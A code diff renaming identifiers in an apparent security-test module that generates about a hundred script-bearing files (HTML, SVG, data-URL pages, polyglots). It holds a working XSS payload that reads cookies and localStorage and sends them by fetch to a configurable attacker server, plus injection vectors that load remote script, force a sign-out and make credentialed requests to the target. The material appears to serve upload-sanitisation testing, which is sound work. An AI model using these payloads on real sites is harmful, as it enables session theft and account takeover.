@@ -7,20 +7,20 @@ export interface ActiveFile {
 }
 
 /** The URLs that the scripts use. */
-export interface Aims {
+export interface AttackTargets {
   /** The attacker's server, to which scripts report that they ran. */
-  readonly told: string;
+  readonly reportUrl: string;
   /** The attacked instance. */
-  readonly site: string;
+  readonly siteUrl: string;
 }
 
 /**
  * A hundred files that run script in some browser or other program: HTML, SVG, XML with style
  * sheets, PDFs, files with a wrong type or extension, and polyglots.
  */
-export function activeFiles(aims: Aims): ActiveFile[] {
-  const script = deedOf(aims);
-  const pages = pagesOf(script, aims);
+export function activeFiles(targets: AttackTargets): ActiveFile[] {
+  const script = attackScript(targets);
+  const pages = pagesOf(script, targets);
   const [page = ""] = pages;
   const drawings = drawingsOf(script);
   const [drawing = ""] = drawings;
@@ -114,10 +114,10 @@ export function activeFiles(aims: Aims): ActiveFile[] {
 }
 
 /** A script that reports what it can read, and creates a folder with the visitor's session. */
-export const deedOf = ({ told, site }: Aims): string =>
-  `(function(){var c="";try{c=document.cookie}catch(e){}try{c+=Object.keys(localStorage)}catch(e){}fetch("${told}/ran?from="+encodeURIComponent(self.origin+" "+location.href+" "+c));fetch("${site}/api/folders",{method:"POST",credentials:"include",headers:{"Content-Type":"application/json"},body:'{"folder":"taken-over"}'})})()`;
+export const attackScript = ({ reportUrl, siteUrl }: AttackTargets): string =>
+  `(function(){var c="";try{c=document.cookie}catch(e){}try{c+=Object.keys(localStorage)}catch(e){}fetch("${reportUrl}/ran?from="+encodeURIComponent(self.origin+" "+location.href+" "+c));fetch("${siteUrl}/api/folders",{method:"POST",credentials:"include",headers:{"Content-Type":"application/json"},body:'{"folder":"taken-over"}'})})()`;
 
-function pagesOf(script: string, { told, site }: Aims): string[] {
+function pagesOf(script: string, { reportUrl, siteUrl }: AttackTargets): string[] {
   const inAttribute = script.replaceAll('"', "&quot;");
   const encoded = encodeURIComponent(`<script>${script}</script>`);
   return [
@@ -134,12 +134,12 @@ function pagesOf(script: string, { told, site }: Aims): string[] {
     `<meta http-equiv=refresh content="0;url=data:text/html,${encoded}">`,
     `<object data="data:text/html,${encoded}"></object>`,
     `<embed src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`)}">`,
-    `<script src="${told}/script.js"></script>`,
-    `<script type=module>import "${told}/script.js"</script>`,
+    `<script src="${reportUrl}/script.js"></script>`,
+    `<script type=module>import "${reportUrl}/script.js"</script>`,
     `<script>navigator.serviceWorker.register("/api/hosting/active/worker.js")</script><script>${script}</script>`,
     `<meta http-equiv=Content-Security-Policy content="sandbox allow-scripts allow-same-origin"><script>${script}</script>`,
-    `<base href="${told}/"><script src="script.js"></script>`,
-    `<form id=f method=post action="${site}/auth/sign-out"></form><script>f.submit()</script><script>${script}</script>`,
+    `<base href="${reportUrl}/"><script src="script.js"></script>`,
+    `<form id=f method=post action="${siteUrl}/auth/sign-out"></form><script>f.submit()</script><script>${script}</script>`,
     `<svg><script>${script}</script></svg>`,
     `<math><annotation-xml encoding="text/html"><script>${script}</script></annotation-xml></math>`,
     `<template shadowrootmode=open><script>${script}</script></template><div><template shadowrootmode=open><img src=x onerror="${inAttribute}"></template></div>`,
